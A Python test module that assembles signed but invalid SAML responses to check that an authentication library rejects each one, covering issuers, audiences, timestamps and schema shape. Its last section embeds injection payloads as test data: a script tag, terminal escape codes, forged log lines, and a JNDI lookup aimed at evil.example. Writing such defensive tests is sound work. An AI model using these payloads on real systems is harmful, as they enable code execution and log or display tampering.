"""Correctly signed responses that must not be accepted: each rule of the profile, one step outside of its boundary."""

from __future__ import annotations

import re
from datetime import timedelta
from typing import Any

from tests.saml import forge
from tests.saml.forge import Attribute, Confirmation, Raw, Recipe
from tests.saml.hostile.corpus import EVERY_WAY, Family, shortened, swap
from vestibule.saml import errors

SKEW = timedelta(seconds=120)
SECOND = timedelta(seconds=1)
STATUS = "urn:oasis:names:tc:SAML:2.0:status:"
WHOM = Family(
    "whom and where",
    "A genuine message of another provider, for another service, address, request or purpose, or of a failure.",
    "saml-profiles 4.1.4.2, 4.1.4.3; saml-core 2.5.1.4; CVE-2026-41577",
)
WHEN = Family(
    "when",
    "A genuine message a second too early or too late, at the very instant of expiry, or with a time that can be read in two ways.",
    "saml-core 1.3.3, 2.5.1.2, 2.7.2",
)
SHAPE = Family(
    "shape",
    "Signed, and not of the schema: unknown attributes, children, texts, versions, order; what nobody expects is where attacks hide.",
    "saml-core 1.1, 2, 3",
)


def confirmed(**changes: Any) -> bytes:
    return forge.response(confirmations=(Confirmation(**changes),))


def signed(xml: str) -> bytes:
    return forge.sign_xml(xml, "_assertion1")


def _status() -> None:
    for status in ("Requester", "Responder", "success", "Success ", "SuccessX", ""):
        for sign in EVERY_WAY:
            WHOM.add(
                f"the status {status!r}, {sign} signed",
                errors.StatusNotSuccess,
                forge.response(sign=sign, status=STATUS + status),
            )
    WHOM.add("the status Success without its namespace", errors.StatusNotSuccess, forge.response(status="Success"))
    WHOM.add("a failure below Success", errors.StatusNotSuccess, forge.response(status_inner=STATUS + "AuthnFailed"))
    WHOM.add(
        "Success below a failure",
        errors.StatusNotSuccess,
        forge.response(status=STATUS + "Responder", status_inner=STATUS + "Success"),
    )
    WHOM.add("Success below Success", errors.StatusNotSuccess, forge.response(status_inner=STATUS + "Success"))
    second = f'<samlp:Status><samlp:StatusCode Value="{STATUS}Success"/></samlp:Status>'
    WHOM.add("two statuses", errors.UnexpectedElement, forge.response(after_status=second))
    failed = Recipe(status=STATUS + "Responder").xml()
    WHOM.add(
        "a failure behind a look-alike Success",
        errors.MissingElement,
        signed(
            failed.replace(
                "<samlp:Status>",
                second.replace("samlp:", "x:").replace("<x:Status>", '<x:Status xmlns:x="urn:evil">')
                + "<samlp:Status>",
            )
        ),
    )
    WHOM.add("no status", errors.MissingElement, signed(re.sub("<samlp:Status>.*</samlp:Status>", "", Recipe().xml())))
    WHOM.add(
        "a status without code",
        errors.MissingElement,
        signed(re.sub("<samlp:StatusCode.*</samlp:StatusCode>", "", Recipe().xml())),
    )
    WHOM.add("a status code without value", errors.MissingElement, signed(re.sub(' Value="[^"]*"', "", Recipe().xml())))


def _request() -> None:
    for sign in EVERY_WAY:
        WHOM.add(
            f"an answer to another request, {sign} signed",
            errors.InResponseToMismatch,
            forge.response(sign=sign, in_response_to="_other"),
        )
        WHOM.add(
            f"an assertion for another request, {sign} signed",
            errors.InResponseToMismatch,
            forge.response(sign=sign, confirmations=(Confirmation(in_response_to="_other"),)),
        )
    WHOM.add(
        "an assertion of an unsolicited sign-in in an answer",
        errors.InResponseToMismatch,
        confirmed(in_response_to=None),
        "CVE-2026-49284",
    )
    WHOM.add("an answer to nothing", errors.Unsolicited, forge.response(in_response_to=None))
    WHOM.add(
        "an answer and an assertion to nothing",
        errors.Unsolicited,
        forge.response(in_response_to=None, confirmations=(Confirmation(in_response_to=None),)),
    )
    WHOM.add("an answer where nobody asked", errors.Unsolicited, forge.response(sign="both"), in_response_to=None)
    WHOM.add(
        "an answer to the request in other case",
        errors.InResponseToMismatch,
        forge.response(in_response_to="_REQUEST1"),
    )
    WHOM.add("an empty InResponseTo", errors.InResponseToMismatch, forge.response(in_response_to=""))


def _unasked() -> None:
    """Where a response that nobody asked for is accepted, one that answers a request is not: it was made for somebody else."""
    unasked: dict[str, Any] = {"in_response_to": None, "unsolicited": True}
    nothing, something = Confirmation(in_response_to=None), Confirmation()
    for sign in EVERY_WAY:
        WHOM.add(
            f"unasked: a response to a request, {sign} signed",
            errors.Unsolicited,
            forge.response(sign=sign, confirmations=(nothing,)),
            **unasked,
        )
        WHOM.add(
            f"unasked: an assertion for a request, {sign} signed",
            errors.InResponseToMismatch,
            forge.response(sign=sign, in_response_to=None),
            **unasked,
        )
        WHOM.add(
            f"unasked: one of two confirmations for a request, {sign} signed",
            errors.InResponseToMismatch,
            forge.response(sign=sign, in_response_to=None, confirmations=(nothing, something)),
            **unasked,
        )
    WHOM.add(
        "unasked: an empty InResponseTo",
        errors.Unsolicited,
        forge.response(in_response_to="", confirmations=(nothing,)),
        **unasked,
    )


def _asked_for() -> None:
    """What a request asked for, and the answer does not say: a fresh sign-in, a class of authentication."""
    WHEN.add(
        "a sign-in a second older than the request that forced it",
        errors.AuthnTooOld,
        forge.response(authn_instant=forge.instant(forge.NOW - SKEW - SECOND)),
        authn_after=forge.NOW,
    )
    for wanted, received in (
        (forge.PASSWORD_CONTEXT + "X", forge.PASSWORD_CONTEXT),
        (forge.PASSWORD_CONTEXT, None),
        (forge.PASSWORD_CONTEXT, ""),
        (forge.PASSWORD_CONTEXT, forge.PASSWORD_CONTEXT.lower()),
    ):
        WHOM.add(
            f"the class {shortened(received)} where another is wanted",
            errors.AuthnContextMismatch,
            forge.response(authn_context=received),
            context_classes=(wanted,),
        )


def _parties() -> None:
    for issuer in (
        "https://evil.example",
        forge.IDP.upper(),
        forge.IDP + "/",
        forge.IDP + "\u200b",
        forge.IDP + "?",
        "",
        forge.IDP.replace("e", "\u0435", 1),
    ):
        for sign in EVERY_WAY:
            WHOM.add(
                f"the response of {shortened(issuer)}, {sign} signed",
                errors.IssuerMismatch,
                forge.response(sign=sign, response_issuer=issuer),
            )
            WHOM.add(
                f"the assertion of {shortened(issuer)}, {sign} signed",
                errors.IssuerMismatch,
                forge.response(sign=sign, assertion_issuer=issuer),
            )
    WHOM.add(
        "an assertion without issuer", errors.MissingElement, forge.response(assertion_issuer=None, sign="response")
    )
    WHOM.add("a signed assertion without issuer", errors.MissingElement, forge.response(assertion_issuer=None))
    WHOM.add(
        "a signed response without issuer", errors.IssuerMissing, forge.response(sign="response", response_issuer=None)
    )
    xml = Recipe().xml().replace("<saml:Issuer>", f'<saml:Issuer Format="{forge.EMAIL_FORMAT}">')
    WHOM.add("an issuer that is a person", errors.UnexpectedElement, signed(xml))
    for other in (
        "https://other.example/acs",
        forge.ACS + "/",
        forge.ACS + "?x",
        forge.ACS.upper(),
        forge.ACS.replace("https", "http"),
        " " + forge.ACS,
        "",
    ):
        for sign in EVERY_WAY:
            WHOM.add(
                f"the destination {shortened(other)}, {sign} signed",
                errors.DestinationMismatch,
                forge.response(sign=sign, destination=other),
            )
        WHOM.add(f"the recipient {shortened(other)}", errors.RecipientMismatch, confirmed(recipient=other))
    for sign in ("response", "both"):
        WHOM.add(
            f"no destination, {sign} signed", errors.DestinationMissing, forge.response(sign=sign, destination=None)
        )
    WHOM.add("no recipient", errors.RecipientMismatch, confirmed(recipient=None))


def _audiences() -> None:
    for audiences in (
        (("https://other.example",),),
        ((forge.SP + "/",),),
        ((forge.SP.upper(),),),
        (("",),),
        (),
        ((forge.SP,), ("https://other.example",)),
        (("https://other.example",), (forge.SP,)),
        ((forge.ACS,),),
        ((forge.SP + " https://other.example",),),
    ):
        for sign in EVERY_WAY:
            written = " AND ".join(
                " OR ".join(name.removeprefix("https://") for name in names) or "nobody" for names in audiences
            )
            WHOM.add(
                f"the audience {written or 'missing'}, {sign} signed",
                errors.AudienceMismatch,
                forge.response(sign=sign, audiences=audiences),
            )
    WHOM.add("no conditions", errors.AudienceMismatch, forge.response(conditions=False))
    WHOM.add(
        "an empty audience restriction",
        errors.MissingElement,
        forge.response(extra_conditions="<saml:AudienceRestriction/>"),
    )
    for name, condition in (
        ("of a foreign namespace", '<x:Condition xmlns:x="urn:x"/>'),
        ("abstract", "<saml:Condition/>"),
        (
            "of a type of its own",
            '<saml:Condition xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:x="urn:x" xsi:type="x:y"/>',
        ),
        ("about delegation", '<del:Delegate xmlns:del="urn:oasis:names:tc:SAML:2.0:conditions:delegation"/>'),
        ("of SAML 1.1", '<o:DoNotCacheCondition xmlns:o="urn:oasis:names:tc:SAML:1.0:assertion"/>'),
    ):
        WHOM.add(f"a condition {name}", errors.ConditionUnknown, forge.response(extra_conditions=condition))


def _confirmations() -> None:
    for method in ("holder-of-key", "sender-vouches", "Bearer", "bearer ", ""):
        WHOM.add(
            f"the confirmation method {method!r}",
            errors.SubjectConfirmationInvalid,
            confirmed(method=f"urn:oasis:names:tc:SAML:2.0:cm:{method}"),
        )
    WHOM.add("no confirmation", errors.SubjectConfirmationInvalid, forge.response(confirmations=()))
    WHOM.add("a confirmation without data", errors.SubjectConfirmationInvalid, confirmed(data=False))
    WHOM.add("a bearer without NotOnOrAfter", errors.SubjectConfirmationInvalid, confirmed(not_on_or_after=None))
    WHOM.add(
        "a bearer with NotBefore", errors.SubjectConfirmationInvalid, confirmed(not_before=forge.instant(forge.NOW))
    )
    key_info = f'<ds:KeyInfo xmlns:ds="{forge.DS}"><ds:KeyName>k</ds:KeyName></ds:KeyInfo>'
    WHOM.add("a bearer with a key", errors.UnexpectedElement, confirmed(inner=key_info))
    WHOM.add("a bearer with a foreign element", errors.UnexpectedElement, confirmed(inner='<x:any xmlns:x="urn:x"/>'))
    WHOM.add("a bearer with text", errors.UnexpectedElement, confirmed(inner="text"))
    half = (
        Confirmation(recipient="https://other.example"),
        Confirmation(not_on_or_after=forge.instant(forge.NOW - timedelta(days=1))),
    )
    WHOM.add(
        "two bearers, each right where the other is wrong", errors.RecipientMismatch, forge.response(confirmations=half)
    )


def _subjects() -> None:
    for name_id in (
        "",
        " ",
        "\n",
        "ada ",
        " ada",
        "a\tb",
        "a\u202eb",
        "ada\u00a0",
        "\u200bada",
        "x" * 1025,
        Raw("a&#13;b"),
        Raw("a&#10;b"),
        "a\u2028b",
        "\ufeffada",
    ):
        written = name_id.xml if isinstance(name_id, Raw) else name_id
        WHOM.add(
            f"the NameID {shortened(written)} of {len(written)}", errors.SubjectInvalid, forge.response(name_id=name_id)
        )
    WHOM.add("no NameID", errors.SubjectInvalid, forge.response(name_id=None))
    WHOM.add("a BaseID", errors.SubjectInvalid, forge.response(name_id=None, subject_extra="<saml:BaseID/>"))
    WHOM.add("two NameIDs", errors.UnexpectedElement, forge.response(subject_extra="<saml:NameID>eve</saml:NameID>"))
    WHOM.add("no subject", errors.MissingElement, signed(re.sub("<saml:Subject>.*</saml:Subject>", "", Recipe().xml())))
    WHOM.add(
        "two subjects",
        errors.UnexpectedElement,
        signed(
            Recipe()
            .xml()
            .replace("</saml:Subject>", "</saml:Subject><saml:Subject><saml:NameID>eve</saml:NameID></saml:Subject>")
        ),
    )
    WHOM.add("no AuthnStatement", errors.AuthnStatementMissing, forge.response(authn=False))
    WHOM.add(
        "attributes of a person who did not sign in",
        errors.AuthnStatementMissing,
        forge.response(authn=False, sign="both"),
    )


def _instants() -> None:
    for number, (now, end) in enumerate(((forge.NOW, forge.NOW - SKEW), (forge.NOW + SKEW, forge.NOW))):
        text, later = forge.instant(end), forge.instant(now + timedelta(minutes=5))
        recent = Recipe(issue_instant=text, assertion_issue_instant=text)
        WHEN.add(
            f"the confirmation at the instant of its end ({number + 1})",
            errors.Expired,
            forge.response(recent, confirmations=(Confirmation(not_on_or_after=text),)),
            now=now,
        )
        WHEN.add(
            f"the conditions at the instant of their end ({number + 1})",
            errors.Expired,
            forge.response(recent, not_on_or_after=text, confirmations=(Confirmation(not_on_or_after=later),)),
            now=now,
        )
    WHEN.add(
        "the instant of its end, without skew",
        errors.Expired,
        confirmed(not_on_or_after=forge.instant(forge.NOW)),
        clock_skew_seconds=0,
    )
    WHEN.add(
        "conditions that begin a second too late",
        errors.NotYetValid,
        forge.response(not_before=forge.instant(forge.NOW + SKEW + SECOND)),
    )
    same = forge.instant(forge.NOW)
    WHEN.add(
        "conditions that end when they begin",
        errors.InvalidValue,
        forge.response(not_before=same, not_on_or_after=same),
    )
    WHEN.add(
        "conditions that end before they begin",
        errors.InvalidValue,
        forge.response(not_before=forge.instant(forge.NOW + SECOND), not_on_or_after=same),
    )


def _issued() -> None:
    same = forge.instant(forge.NOW)
    future, past = forge.instant(forge.NOW + SKEW + SECOND), forge.instant(forge.NOW - timedelta(days=1) - SECOND)
    for sign in EVERY_WAY:
        WHEN.add(
            f"a response from the future, {sign} signed",
            errors.IssuedInFuture,
            forge.response(sign=sign, issue_instant=future),
        )
        WHEN.add(
            f"an assertion from the future, {sign} signed",
            errors.IssuedInFuture,
            forge.response(sign=sign, assertion_issue_instant=future),
        )
        WHEN.add(
            f"a response of more than a day ago, {sign} signed",
            errors.IssuedLongAgo,
            forge.response(sign=sign, issue_instant=past),
        )
        WHEN.add(
            f"an assertion of more than a day ago, {sign} signed",
            errors.IssuedLongAgo,
            forge.response(sign=sign, assertion_issue_instant=past),
        )
    WHEN.add("a sign-in from the future", errors.IssuedInFuture, forge.response(authn_instant=future))
    ended = forge.instant(forge.NOW)
    WHEN.add("a session that has just ended", errors.SessionEnded, forge.response(session_not_on_or_after=ended))
    second = f'<saml:AuthnStatement AuthnInstant="{same}" SessionNotOnOrAfter="{ended}"><saml:AuthnContext/></saml:AuthnStatement>'
    WHEN.add("a second statement whose session has ended", errors.SessionEnded, forge.response(end_of_assertion=second))
    first = "0001-01-01T00:00:00Z"
    WHEN.add("the beginning of time as IssueInstant", errors.IssuedLongAgo, forge.response(issue_instant=first))
    WHEN.add("the beginning of time as end", errors.Expired, confirmed(not_on_or_after=first))


TIMES = (
    "2026-11-23T14:18:07", "2026-11-23T14:18:07+00:00", "2026-11-23T15:18:07+01:00", "2026-11-23T14:18:07z",
    "2026-11-23 14:18:07Z", "2026-11-23T14:18Z", "2026-11-23", "2026-11-31T14:18:07Z", "2026-11-23T24:00:00Z",
    "2026-11-23T14:18:60Z", "0000-11-23T14:18:07Z", "-2026-11-23T14:18:07Z", "12026-11-23T14:18:07Z",
    "2026-W48-1T14:18:07Z", "２０２６-11-23T14:18:07Z", "2026-11-23T14:18:07.Z", "2026-11-23T14:18:07,5Z",
    "2026-11-23T14:18:07Z ", "1795443487", "", "soon",
)  # fmt: skip
TIMED = (
    "issue_instant",
    "assertion_issue_instant",
    "not_before",
    "not_on_or_after",
    "authn_instant",
    "session_not_on_or_after",
)


def _spellings() -> None:
    for time in TIMES:
        for name in TIMED:
            changed: dict[str, Any] = {name: time}
            WHEN.add(f"{name} of {shortened(time)}", errors.InvalidTime, forge.response(**changed))
        WHEN.add(
            f"the end of the confirmation of {shortened(time)}", errors.InvalidTime, confirmed(not_on_or_after=time)
        )


def _shapes() -> None:
    for version in ("1.1", "2.00", "2", "", "3.0", " 2.0"):
        SHAPE.add(f"a response of version {version!r}", errors.VersionUnsupported, forge.response(version=version))
        SHAPE.add(
            f"an assertion of version {version!r}", errors.VersionUnsupported, forge.response(assertion_version=version)
        )
    for name, error in (
        ("ID", errors.MissingElement),
        ("IssueInstant", errors.MissingElement),
        ("Version", errors.VersionUnsupported),
    ):
        SHAPE.add(f"a response without {name}", error, signed(re.sub(rf' {name}="[^"]*"', "", Recipe().xml(), count=1)))
    for element in (
        "Response",
        "Assertion",
        "Subject",
        "Conditions",
        "AuthnStatement",
        "NameID",
        "Status",
        "StatusCode",
        "Issuer",
        "SubjectConfirmation",
        "SubjectConfirmationData",
        "AudienceRestriction",
        "Audience",
        "AuthnContext",
        "AuthnContextClassRef",
        "AttributeStatement",
        "Attribute",
    ):
        xml = re.sub(rf"<(samlp?:{element})\b", r'<\1 Evil="1"', Recipe().xml(), count=1)
        SHAPE.add(f"an unknown attribute on {element}", errors.UnexpectedElement, signed(xml))
    for element in (
        "Response",
        "Status",
        "StatusCode",
        "Assertion",
        "Subject",
        "Conditions",
        "AttributeStatement",
        "Attribute",
        "AuthnStatement",
        "AuthnContext",
        "AudienceRestriction",
        "SubjectConfirmation",
    ):
        for name, content in (
            ("a foreign child", '<x:any xmlns:x="urn:x"/>'),
            ("text", "text"),
            ("an Issuer", f'<saml:Issuer xmlns:saml="{forge.SAML}">x</saml:Issuer>'),
        ):
            unknown = element == "Conditions" and name != "text"
            SHAPE.add(
                f"{name} in {element}",
                errors.ConditionUnknown if unknown else errors.UnexpectedElement,
                signed(re.sub(rf"</(samlp?:{element})>", rf"{content}</\1>", Recipe().xml(), count=1)),
            )


def _orders() -> None:
    conditions = re.search("<saml:Conditions .*</saml:Conditions>", Recipe().xml())
    assert conditions
    moved = Recipe().xml().replace(conditions[0], "").replace("<saml:Subject>", conditions[0] + "<saml:Subject>")
    SHAPE.add("Conditions before Subject", errors.MissingElement, signed(moved))
    SHAPE.add(
        "Conditions twice", errors.UnexpectedElement, signed(Recipe().xml().replace(conditions[0], conditions[0] * 2))
    )
    status = re.search("<samlp:Status>.*</samlp:Status>", Recipe().xml())
    assert status
    SHAPE.add(
        "Status behind the assertion",
        errors.MissingElement,
        signed(Recipe().xml().replace(status[0], "").replace("</samlp:Response>", status[0] + "</samlp:Response>")),
    )
    for statement in ("AuthzDecisionStatement", "Statement", "SubjectStatement"):
        SHAPE.add(f"a {statement}", errors.UnexpectedElement, forge.response(end_of_assertion=f"<saml:{statement}/>"))
    nameless = "<saml:AttributeStatement><saml:Attribute/></saml:AttributeStatement>"
    SHAPE.add(
        "an attribute without name",
        errors.MissingElement,
        forge.response(end_of_assertion=nameless, attributes=(Attribute("x", ("y",)),)),
    )
    SHAPE.add(
        "an AuthnStatement without AuthnContext",
        errors.MissingElement,
        signed(re.sub("<saml:AuthnContext>.*</saml:AuthnContext>", "", Recipe().xml())),
    )
    SHAPE.add(
        "an AuthnStatement without AuthnInstant",
        errors.MissingElement,
        signed(re.sub(' AuthnInstant="[^"]*"', "", Recipe().xml())),
    )
    SHAPE.add(
        "a confirmation without Method", errors.MissingElement, signed(re.sub(' Method="[^"]*"', "", Recipe().xml()))
    )
    SHAPE.add(
        "an extension of no namespace",
        errors.UnexpectedElement,
        forge.response(extensions="<samlp:Extensions><evil/></samlp:Extensions>"),
    )


def _looks() -> None:
    SHAPE.add(
        "a script as issuer, with characters that turn the writing around",
        errors.IssuerMismatch,
        forge.response(response_issuer="https://evil.example/\u202e<script>alert(1)</script>" + "x" * 5000),
    )
    SHAPE.add(
        "a terminal's escape codes as status message",
        errors.MalformedXml,
        swap(forge.response(status=STATUS + "Responder", status_message="ESC"), ">ESC<", ">\x1b[2J\x07<"),
    )
    SHAPE.add(
        "line breaks of a log as destination",
        errors.DestinationMismatch,
        forge.response(destination="https://evil.example/\r\n2026-11-23 INFO signed in user=ada").replace(
            b"\n2026", b"&#10;2026"
        ),
    )
    SHAPE.add(
        "a template's braces as recipient",
        errors.RecipientMismatch,
        confirmed(recipient="{{ config }}${jndi:ldap://evil.example}%(asctime)s"),
    )


_status()
_request()
_unasked()
_asked_for()
_parties()
_audiences()
_confirmations()
_subjects()
_instants()
_issued()
_spellings()
_shapes()
_orders()
_looks()
